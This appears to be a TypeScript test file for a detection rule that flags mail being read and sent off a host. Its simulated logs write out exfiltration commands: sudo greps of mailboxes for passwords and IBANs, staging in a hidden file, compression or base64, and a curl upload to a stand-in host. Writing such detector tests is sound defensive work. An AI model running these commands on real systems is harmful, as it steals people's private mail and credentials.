import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { factorsOf, scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = 'https://files.example.net/in';

/** A host that records nothing but what is started; ops gives a line over ssh, and an hour later uploads a file in another session. */
async function given(line: string, act: (shell: Process) => void, upload: string): Promise<readonly string[]> {
  const log = new HostLog({ files: false, network: false });
  log.deliver();
  log.deliver({ to: 'buyer' });
  log.wait(MINUTE);
  act(log.remote('ops', line, '203.0.113.77'));
  log.wait(HOUR);
  log.remote('ops', upload, '203.0.113.77').run(upload);
  const alert = storyOf(await scanLog(log), 'AN1310');
  return [`${alert.severity}: ${alert.title}`, ...factorsOf(alert)];
}
const sudo = (shell: Process, words: readonly string[], cwd = '/root'): Process => {
  const root = { ...shell.who, uid: 0 };
  return shell
    .run(['/usr/bin/sudo', ...words], { who: root })
    .run([`/usr/bin/${words[0]}`, ...words.slice(1)], { cwd });
};
const send = (file: string): string => `/usr/bin/curl -sk -F f=@${file} ${OUT}`;

test('what a shell of sudo redirects, a packer packs in its place and an upload names an hour later is one way', async () => {
  const inner = 'cd /var/mail; grep -iE "password|iban" buyer clerk > /var/tmp/.l; xz /var/tmp/.l';
  const found = await given(
    `sudo sh -c '${inner}'`,
    shell => {
      const sh = sudo(shell, ['sh', '-c', inner]);
      sh.run(['/usr/bin/grep', '-iE', 'password|iban', 'buyer', 'clerk'], { cwd: '/var/mail' });
      sh.run('/usr/bin/xz /var/tmp/.l');
    },
    send('/var/tmp/.l.xz'),
  );
  assert.match(found[0] ?? '', /^medium: Mail of buyer, clerk read and sent out/);
  assert.ok(found.includes('staged in a file'));
});

test('the output of sudo, of a line that the shell becomes, and of a loop', async () => {
  const cat = ['cat', '/var/mail/buyer'];
  const ofSudo = await given('sudo cat /var/mail/buyer > /tmp/x', shell => void sudo(shell, cat), send('/tmp/x'));
  assert.match(ofSudo[0] ?? '', /^medium: Mail of buyer/);
  const become = await given(
    'cat /var/mail/buyer > copy',
    shell => void shell.exec(['/usr/bin/cat', '/var/mail/buyer'], { cwd: '/home/ops' }),
    send('/home/ops/copy'),
  );
  assert.match(become[0] ?? '', /^medium: Mail of buyer/);
  const loop = await given(
    'for u in buyer clerk; do cat /var/mail/$u; done | base64 > /tmp/x',
    shell => {
      shell.run('/usr/bin/cat /var/mail/buyer');
      shell.run('/usr/bin/cat /var/mail/clerk');
      shell.run('/usr/bin/base64');
    },
    send('/tmp/x'),
  );
  assert.match(loop[0] ?? '', /^medium: Mail of buyer, clerk/);
});

test('another file, another command of the line, or an output that goes nowhere joins nothing', async () => {
  const cat = (shell: Process): void => void sudo(shell, ['cat', '/var/mail/buyer']);
  const told = async (line: string, file = '/tmp/x'): Promise<string> => (await given(line, cat, send(file)))[0] ?? '';
  assert.equal(
    await told('sudo cat /var/mail/buyer > /tmp/x', '/tmp/y'),
    'informational: Mail of buyer read and copied',
  );
  assert.equal(await told('sudo cat /var/mail/buyer > /dev/null'), 'informational: Mail of buyer read');
  // These print to whoever is at the other end.
  assert.match(await told('sudo cat /var/mail/buyer; date > /tmp/x'), /^low: /);
  assert.match(await told('sudo cat /var/mail/buyer 2> /tmp/x'), /^low: /);
  assert.match(await told('echo "> /tmp/x"; sudo cat /var/mail/buyer'), /^low: /);
});
